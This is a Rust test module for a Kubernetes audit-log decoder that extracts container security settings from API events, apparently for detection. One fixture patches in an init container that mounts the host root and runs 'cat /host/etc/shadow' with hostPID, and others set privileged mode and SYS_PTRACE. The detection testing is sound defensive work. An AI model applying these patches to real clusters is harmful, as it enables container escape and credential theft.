    const POD_SPEC: &str = r#"{"initContainers":[{"name":"setup","image":"busybox","command":["sh","-c","echo hi"],"volumeMounts":[{"name":"host","mountPath":"/h","readOnly":true,"subPath":"sub"}]},{"name":"proxy","image":"envoyproxy/envoy:v1.30","restartPolicy":"Always"}],"containers":[{"name":"app","image":"app:1","args":["--serve"],"securityContext":{"runAsUser":1000,"capabilities":{"add":["NET_RAW"]}}}],"volumes":[{"name":"host","hostPath":{"path":"/var/lib/"}},{"name":"logs","hostPath":{"path":"/var/log"}},{"name":"tmp","emptyDir":{}}],"securityContext":{"runAsUser":2000},"hostIPC":true,"restartPolicy":"Always"}"#;

    #[test]
    fn deployment_with_init_containers() {
        let object = format!(
            r#"{{"kind":"Deployment","apiVersion":"apps/v1","metadata":{{"name":"w","namespace":"prod"}},"spec":{{"replicas":2,"template":{{"metadata":{{"labels":{{"app":"w"}}}},"spec":{POD_SPEC}}}}}}}"#
        );
        let text = workload_event("deployments", "apps", "create", &object);
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::WorkloadCreate);
        assert_eq!(event.workload.as_ref().unwrap().kind, "Deployment");
        assert_eq!(
            names(&event),
            vec![
                ("app".to_owned(), ContainerRole::Main),
                ("setup".to_owned(), ContainerRole::Init),
                ("proxy".to_owned(), ContainerRole::Init),
            ]
        );
        let app = by_name(&event, "app");
        assert_eq!(app.security.user.as_deref(), Some("1000"));
        assert_eq!(app.security.cap_add, vec!["NET_RAW"]);
        assert_eq!(app.security.command, Some(vec![Cow::Borrowed("--serve")]));
        assert_eq!(app.security.entrypoint, None);
        assert_eq!(app.security.host_ipc, Some(true));
        assert_eq!(app.security.restart_policy.as_ref().unwrap().name, "Always");
        // `/var/log` is mounted by nobody, so it is on every container.
        assert_eq!(app.security.host_mounts.len(), 1);
        assert_eq!(app.security.host_mounts[0].host_path, "/var/log");
        assert_eq!(app.security.host_mounts[0].container_path, None);

        let setup = by_name(&event, "setup");
        assert_eq!(setup.security.user.as_deref(), Some("2000"));
        assert_eq!(setup.security.restart_policy, None);
        assert_eq!(setup.security.entrypoint.as_ref().unwrap().len(), 3);
        assert_eq!(
            setup.security.host_mounts[0],
            HostMount {
                host_path: Cow::Borrowed("/var/lib/sub"),
                container_path: Some(Cow::Borrowed("/h")),
                read_only: true,
            }
        );
        assert_eq!(setup.security.host_mounts[1].host_path, "/var/log");
        assert_eq!(
            by_name(&event, "proxy")
                .security
                .restart_policy
                .as_ref()
                .unwrap()
                .name,
            "Always"
        );
    }

    #[test]
    fn cronjob_with_init_containers() {
        let object = format!(
            r#"{{"kind":"CronJob","apiVersion":"batch/v1","metadata":{{"name":"w"}},"spec":{{"schedule":"* * * * *","jobTemplate":{{"spec":{{"backoffLimit":1,"template":{{"spec":{POD_SPEC}}}}}}}}}}}"#
        );
        let text = workload_event("cronjobs", "batch", "create", &object);
        let event = decode_ok(&text).event;
        assert_eq!(event.workload.as_ref().unwrap().kind, "CronJob");
        assert_eq!(
            names(&event),
            vec![
                ("app".to_owned(), ContainerRole::Main),
                ("setup".to_owned(), ContainerRole::Init),
                ("proxy".to_owned(), ContainerRole::Init),
            ]
        );
    }

    #[test]
    fn a_custom_resource_named_like_a_workload_is_not_read_as_one() {
        let object =
            format!(r#"{{"kind":"Deployment","spec":{{"template":{{"spec":{POD_SPEC}}}}}}}"#);
        let text = workload_event("deployments", "example.com", "create", &object);
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::Other);
        assert!(event.containers.is_empty());
        assert_eq!(event.workload.unwrap().kind, "Deployment");

        // Its spec may be anything.
        let text = workload_event(
            "widgets",
            "example.com",
            "create",
            r#"{"kind":"Widget","spec":{"containers":7}}"#,
        );
        let event = decode_ok(&text).event;
        assert_eq!(event.workload.unwrap().kind, "Widget");
    }

    #[test]
    fn patch_documents() {
        // A label patch: no pod spec, no containers, no error.
        let text = workload_event(
            "deployments",
            "apps",
            "patch",
            r#"{"metadata":{"labels":{"tier":"web"}}}"#,
        );
        let decoded = decode_ok(&text);
        assert_eq!(decoded.event.action, Action::WorkloadPatch);
        assert!(decoded.event.containers.is_empty());
        assert_eq!(
            decoded.event.workload.as_ref().unwrap().name.as_deref(),
            Some("w")
        );

        // A JSON patch is an array: a field written inside a container by index gives an
        // unnamed container that carries just that field.
        let text = workload_event(
            "deployments",
            "apps",
            "patch",
            r#"[{"op":"replace","path":"/spec/template/spec/containers/0/securityContext/privileged","value":true}]"#,
        );
        let event = decode_ok(&text).event;
        assert_eq!(event.containers.len(), 1);
        assert_eq!(event.containers[0].name, None);
        assert_eq!(event.containers[0].security.privileged, Some(true));
        assert_eq!(event.containers[0].security.host_pid, None);
        // One that does not reach the pod spec says nothing.
        let text = workload_event(
            "deployments",
            "apps",
            "patch",
            r#"[{"op":"replace","path":"/spec/replicas","value":3},{"op":"remove","path":"/spec/template/spec/hostPID"}]"#,
        );
        assert!(decode_ok(&text).event.containers.is_empty());

        // A strategic merge patch names the containers it changes; what it does not set
        // stays unknown.
        let text = workload_event(
            "deployments",
            "apps",
            "patch",
            r#"{"spec":{"template":{"spec":{"$setElementOrder/containers":[{"name":"app"}],"containers":[{"name":"app","securityContext":{"privileged":true}}]}}}}"#,
        );
        let event = decode_ok(&text).event;
        let app = by_name(&event, "app");
        assert_eq!(app.security.privileged, Some(true));
        assert_eq!(app.security.host_pid, None);
        assert_eq!(app.image, None);

        // A merge patch that does not fit the pod spec is skipped, not an error.
        let text = workload_event("pods", "", "patch", r#"{"spec":{"containers":"oops"}}"#);
        assert!(decode_ok(&text).event.containers.is_empty());
    }

    #[test]
    fn json_patch_operations() {
        // An init container added to a Deployment, with a hostPath volume it mounts.
        let text = workload_event(
            "deployments",
            "apps",
            "patch",
            r#"[{"op":"add","path":"/spec/template/spec/volumes/-","value":{"name":"host","hostPath":{"path":"/"}}},{"op":"add","path":"/spec/template/spec/initContainers/-","value":{"name":"grab","image":"busybox:1.36","command":["sh","-c","cat /host/etc/shadow"],"volumeMounts":[{"name":"host","mountPath":"/host"}]}},{"op":"add","path":"/spec/template/spec/hostPID","value":true},{"op":"test","path":"/spec/replicas","value":1}]"#,
        );
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::WorkloadPatch);
        assert_eq!(
            names(&event),
            vec![("grab".to_owned(), ContainerRole::Init)]
        );
        let grab = &event.containers[0];
        assert_eq!(grab.security.host_pid, Some(true));
        assert_eq!(grab.security.host_network, None);
        assert_eq!(grab.security.host_mounts[0].host_path, "/");
        assert_eq!(
            grab.security.host_mounts[0].container_path.as_deref(),
            Some("/host")
        );
        assert_eq!(grab.security.entrypoint.as_ref().unwrap().len(), 3);

        // A CronJob's containers, a whole list, and capabilities one by one.
        let text = workload_event(
            "cronjobs",
            "batch",
            "patch",
            r#"[{"op":"replace","path":"/spec/jobTemplate/spec/template/spec/containers","value":[{"name":"run","image":"alpine"}]},{"op":"add","path":"/spec/jobTemplate/spec/template/spec/containers/0/securityContext/capabilities/add/-","value":"SYS_PTRACE"}]"#,
        );
        let event = decode_ok(&text).event;
        assert_eq!(event.containers.len(), 2);
        assert_eq!(event.containers[0].name.as_deref(), Some("run"));
        assert_eq!(event.containers[1].security.cap_add, vec!["SYS_PTRACE"]);

        // Pod-level only: one unnamed container carries it.
        let text = workload_event(
            "pods",
            "",
            "patch",
            r#"[{"op":"add","path":"/spec/hostNetwork","value":true}]"#,
        );
        let event = decode_ok(&text).event;
        assert_eq!(event.containers.len(), 1);
        assert_eq!(event.containers[0].security.host_network, Some(true));

        // Values of the wrong type, unknown fields and odd paths are skipped.
        let text = workload_event(
            "pods",
            "",
            "patch",
            r#"[{"op":"add","path":"/spec/hostPID","value":"yes"},{"op":"add","path":"/spec/containers/0/resources","value":{}},{"op":"add","path":"/spec/","value":1},{"op":"add","path":"/spec/containers/0/securityContext/capabilities/add/0/x","value":"A"},{"path":"/spec/hostIPC"},7]"#,
        );
        assert!(decode_ok(&text).event.containers.is_empty());
        let text = workload_event("pods", "", "patch", "[]");
        assert!(decode_ok(&text).event.containers.is_empty());

        // An ephemeral container added through the subresource by JSON patch.
        let text = event_with(
            r#""stage":"ResponseComplete","verb":"patch","objectRef":{"resource":"pods","namespace":"n","name":"p","subresource":"ephemeralcontainers"},"requestObject":[{"op":"add","path":"/spec/ephemeralContainers/-","value":{"name":"debugger-x","image":"busybox","targetContainerName":"app","stdin":true,"tty":true}}]"#,
        );
        let event = decode_ok(&text).event;
        assert_eq!(
            names(&event),
            vec![("debugger-x".to_owned(), ContainerRole::Ephemeral)]
        );
    }

    #[test]
    fn owners_and_principals() {
        let text = event_with(
            r#""stage":"ResponseComplete","verb":"create","user":{"username":"system:serviceaccount:kube-system:replicaset-controller","uid":"u-1","groups":["system:serviceaccounts"]},"objectRef":{"resource":"pods","namespace":"prod"},"requestObject":{"kind":"Pod","metadata":{"generateName":"web-5d9c-","ownerReferences":[{"apiVersion":"v1","kind":"Node","name":"n","controller":false},{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"web-5d9c","uid":"x","controller":true,"blockOwnerDeletion":true}]},"spec":{"containers":[{"name":"web","image":"nginx"}]}}"#,
        );
        let event = decode_ok(&text).event;
        assert_eq!(
            event.workload.as_ref().unwrap().owner.as_deref(),
            Some("ReplicaSet/web-5d9c")
        );
        let principal = event.principal.unwrap();
        assert_eq!(principal.kind.as_deref(), Some("serviceaccount"));
        assert_eq!(principal.uid.as_deref(), Some("u-1"));

        // No controller: the first owner; an owner without a name is none.
        let with_owners = |owners: &str| {
            let text = event_with(&format!(
                r#""verb":"create","objectRef":{{"resource":"pods"}},"requestObject":{{"kind":"Pod","metadata":{{"name":"p","ownerReferences":{owners}}},"spec":{{}}}}"#
            ));
            decode_ok(&text)
                .event
                .workload
                .unwrap()
                .owner
                .map(|o| o.into_owned())
        };
        assert_eq!(
            with_owners(r#"[{"kind":"Job","name":"j"}]"#).as_deref(),
            Some("Job/j")
        );
        assert_eq!(with_owners(r#"[{"kind":"Job"}]"#), None);
        assert_eq!(with_owners("[]"), None);

        assert_eq!(principal_kind("system:node:ip-10-0-1-5"), Some("node"));
        assert_eq!(principal_kind("kubernetes-admin"), Some("user"));
        assert_eq!(principal_kind(""), None);
    }

    #[test]
    fn eks_iam_identity() {
        let text = event_with(
            r#""stage":"ResponseComplete","verb":"get","user":{"username":"arn:aws:sts::111122223333:assumed-role/Admin/alice","uid":"aws-iam-authenticator:111122223333:AROAEXAMPLEID","groups":["system:authenticated"],"extra":{"accessKeyId":["ASIAEXAMPLE"],"arn":["arn:aws:sts::111122223333:assumed-role/Admin/alice"],"canonicalArn":["arn:aws:iam::111122223333:role/Admin"],"principalId":["AROAEXAMPLEID"],"sessionName":["alice"]}},"objectRef":{"resource":"secrets","namespace":"prod","name":"db"}"#,
        );
        let principal = decode_ok(&text).event.principal.unwrap();
        assert_eq!(
            principal.uid.as_deref(),
            Some("arn:aws:sts::111122223333:assumed-role/Admin/alice")
        );
        assert_eq!(principal.kind.as_deref(), Some("user"));
        // Other `extra` values of odd shapes do not stop the record.
        let text = event_with(
            r#""verb":"get","user":{"username":"bob","extra":{"arn":"arn:aws:iam::1:user/bob","x":[1,2],"y":null}}"#,
        );
        let principal = decode_ok(&text).event.principal.unwrap();
        assert_eq!(principal.uid.as_deref(), Some("arn:aws:iam::1:user/bob"));
        let text = event_with(r#""verb":"get","user":{"username":"bob","extra":{"arn":[]}}"#);
        assert_eq!(decode_ok(&text).event.principal.unwrap().uid, None);
    }

    #[test]
    fn permission_discovery_is_a_list() {
        let text = event_with(
            r#""stage":"ResponseComplete","requestURI":"/apis/authorization.k8s.io/v1/selfsubjectrulesreviews","verb":"create","user":{"username":"system:serviceaccount:prod:web"},"objectRef":{"resource":"selfsubjectrulesreviews","apiGroup":"authorization.k8s.io","apiVersion":"v1"},"responseStatus":{"code":201},"requestObject":{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"namespace":"prod"}}"#,
        );
        let decoded = decode_ok(&text);
        assert!(decoded.evaluate);
        assert_eq!(decoded.event.action, Action::ResourceList);
        assert_eq!(
            decoded.event.workload.unwrap().kind,
            "SelfSubjectRulesReview"
        );
        let text = event_with(
            r#""verb":"create","objectRef":{"resource":"selfsubjectaccessreviews","apiGroup":"authorization.k8s.io"}"#,
        );
        assert_eq!(decode_ok(&text).event.action, Action::ResourceList);
    }

    #[test]
    fn exec_and_attach_into_an_init_container_with_either_verb() {
        for (verb, sub, action) in [
            ("create", "exec", Action::ContainerExec),
            ("get", "exec", Action::ContainerExec),
            ("create", "attach", Action::ContainerAttach),
            ("get", "attach", Action::ContainerAttach),
        ] {
            let text = event_with(&format!(
                r#""stage":"ResponseStarted","requestURI":"/api/v1/namespaces/prod/pods/web-1/{sub}?container=init-setup&stdin=true","verb":"{verb}","objectRef":{{"resource":"pods","namespace":"prod","name":"web-1","subresource":"{sub}"}},"responseStatus":{{"code":101}}"#
            ));
            let decoded = decode_ok(&text);
            assert!(decoded.evaluate);
            assert_eq!(decoded.event.action, action);
            assert_eq!(
                decoded.event.containers[0].name.as_deref(),
                Some("init-setup")
            );
        }
    }

    #[test]
    fn response_object_wins_and_failures_fall_back_to_the_request() {
        let request = r#"{"kind":"Pod","metadata":{"generateName":"p-"},"spec":{"containers":[{"name":"a","securityContext":{"privileged":true}}]}}"#;
        // Denied: the response is a Status, the request still shows what was asked for.
        let text = event_with(&format!(
            r#""stage":"ResponseComplete","verb":"create","objectRef":{{"resource":"pods","namespace":"n"}},"responseStatus":{{"code":403}},"requestObject":{request},"responseObject":{{"kind":"Status","apiVersion":"v1","status":"Failure","code":403}}"#
        ));
        let event = decode_ok(&text).event;
        assert_eq!(by_name(&event, "a").security.privileged, Some(true));
        assert_eq!(event.error.as_deref(), Some("403"));
        assert_eq!(event.workload.unwrap().name.as_deref(), Some("p-"));
    }

    #[test]
    fn ephemeral_containers_subresource() {
        let response = r#"{"kind":"Pod","metadata":{"name":"p","uid":"u"},"spec":{"hostPID":true,"containers":[{"name":"app","image":"app:1"}],"ephemeralContainers":[{"name":"debugger","image":"busybox","securityContext":{"privileged":true}}]}}"#;
        let text = event_with(&format!(
            r#""stage":"ResponseComplete","verb":"patch","objectRef":{{"resource":"pods","namespace":"n","name":"p","subresource":"ephemeralcontainers"}},"requestObject":{{"spec":{{"ephemeralContainers":[{{"name":"debugger","image":"busybox"}}]}}}},"responseObject":{response}"#
        ));
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::WorkloadPatch);
        assert_eq!(
            names(&event),
            vec![("debugger".to_owned(), ContainerRole::Ephemeral)]
        );
        assert_eq!(event.containers[0].security.privileged, Some(true));
        assert_eq!(event.containers[0].security.host_pid, Some(true));
        assert_eq!(event.workload.unwrap().uid.as_deref(), Some("u"));

        // Kubernetes 1.16-1.22: an `EphemeralContainers` body, update verb.
        let text = event_with(
            r#""stage":"ResponseComplete","verb":"update","objectRef":{"resource":"pods","namespace":"n","name":"p","subresource":"ephemeralcontainers"},"requestObject":{"kind":"EphemeralContainers","apiVersion":"v1","metadata":{"name":"p"},"ephemeralContainers":[{"name":"dbg","image":"busybox"}]}"#,
        );
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::WorkloadUpdate);
        assert_eq!(
            names(&event),
            vec![("dbg".to_owned(), ContainerRole::Ephemeral)]
        );
        assert_eq!(event.containers[0].security.host_pid, None);
    }

    #[test]
    fn list_and_watch() {
        let with = |verb: &str, uri: &str, stage: &str| {
            let text = event_with(&format!(
                r#""stage":"{stage}","requestURI":"{uri}","verb":"{verb}","objectRef":{{"resource":"secrets","apiVersion":"v1"}}"#
            ));
            let decoded = decode_ok(&text);
            (decoded.event.action, decoded.evaluate)
        };
        assert_eq!(
            with("list", "/api/v1/secrets?limit=500", "ResponseComplete"),
            (Action::ResourceList, true)
        );
        assert_eq!(
            with("list", "/api/v1/secrets?watch=false", "ResponseComplete"),
            (Action::ResourceList, true)
        );
        assert_eq!(
            with(
                "list",
                "/api/v1/secrets?resourceVersion=1\\u0026watch=true",
                "ResponseStarted"
            ),
            (Action::ResourceWatch, true)
        );
        assert_eq!(
            with("list", "/api/v1/secrets?watch=1", "ResponseComplete"),
            (Action::ResourceWatch, false)
        );
        assert_eq!(
            with("watch", "/api/v1/secrets?watch=true", "ResponseStarted"),
            (Action::ResourceWatch, true)
        );
        assert_eq!(
            with("watch", "/api/v1/secrets?watch=true", "ResponseComplete"),
            (Action::ResourceWatch, false)
        );
    }

    #[test]
    fn other_subresources_and_verbs() {
        let with = |verb: &str, resource: &str, sub: &str| {
            let sub = if sub.is_empty() {
                String::new()
            } else {
                format!(r#","subresource":"{sub}""#)
            };
            let text = event_with(&format!(
                r#""stage":"ResponseComplete","verb":"{verb}","objectRef":{{"resource":"{resource}","name":"x"{sub}}}"#
            ));
            decode_ok(&text).event.action
        };
        assert_eq!(with("update", "pods", "status"), Action::Other);
        assert_eq!(with("create", "pods", "binding"), Action::Other);
        assert_eq!(with("patch", "deployments", "scale"), Action::Other);
        assert_eq!(with("get", "pods", "log"), Action::ResourceGet);
        assert_eq!(with("update", "daemonsets", ""), Action::WorkloadUpdate);
        assert_eq!(with("deletecollection", "pods", ""), Action::WorkloadDelete);
        assert_eq!(with("create", "secrets", ""), Action::Other);
        assert_eq!(with("create", "pods", "exec"), Action::ContainerExec);
    }

    #[test]
    fn shape_errors_name_the_field_and_column() {
        let missing_id = r#"{"kind":"Event","stage":"ResponseComplete","verb":"get"}"#;
        match decode(missing_id) {
            Err(DecodeError::Shape {
                message, column, ..
            }) => {
                assert!(message.contains("auditID"), "{message}");
                assert!(column > 1);
            }
            other => panic!("{other:?}"),
        }
        let missing_verb = r#"{"kind":"Event","auditID":"a","stage":"ResponseComplete"}"#;
        assert!(
            matches!(decode(missing_verb), Err(DecodeError::Shape { message, .. }) if message.contains("verb"))
        );
        let wrong_kind = r#"{"kind":"EventList","auditID":"a","verb":"get"}"#;
        match decode(wrong_kind) {
            Err(DecodeError::Shape { column, .. }) => assert_eq!(column, 19),
            other => panic!("{other:?}"),
        }
        assert!(matches!(
            decode(r#"{"auditID":"a","verb":"#),
            Err(DecodeError::Syntax { .. })
        ));

        // A pod body that does not fit is located inside the record.
        let text = r#"{"auditID":"a","verb":"create","objectRef":{"resource":"pods"},"requestObject":{"kind":"Pod","spec":{"hostPID":"yes"}}}"#;
        match decode(text) {
            Err(DecodeError::Shape {
                column, message, ..
            }) => {
                assert!(message.starts_with("requestObject: "), "{message}");
                assert_eq!(
                    &text[..column as usize],
                    &text[..text.find("\"yes\"").unwrap() + 5]
                );
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn v1beta1_timestamp_is_the_last_resort() {
        let text = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1beta1","auditID":"a","verb":"get","timestamp":"2018-10-26T13:38:34Z"}"#;
        let event = decode_ok(text).event;
        assert_eq!(event.time_ns, Some(1_540_561_114_000_000_000));
        assert!(event.workload.is_none());
        assert!(event.principal.is_none());
    }
}
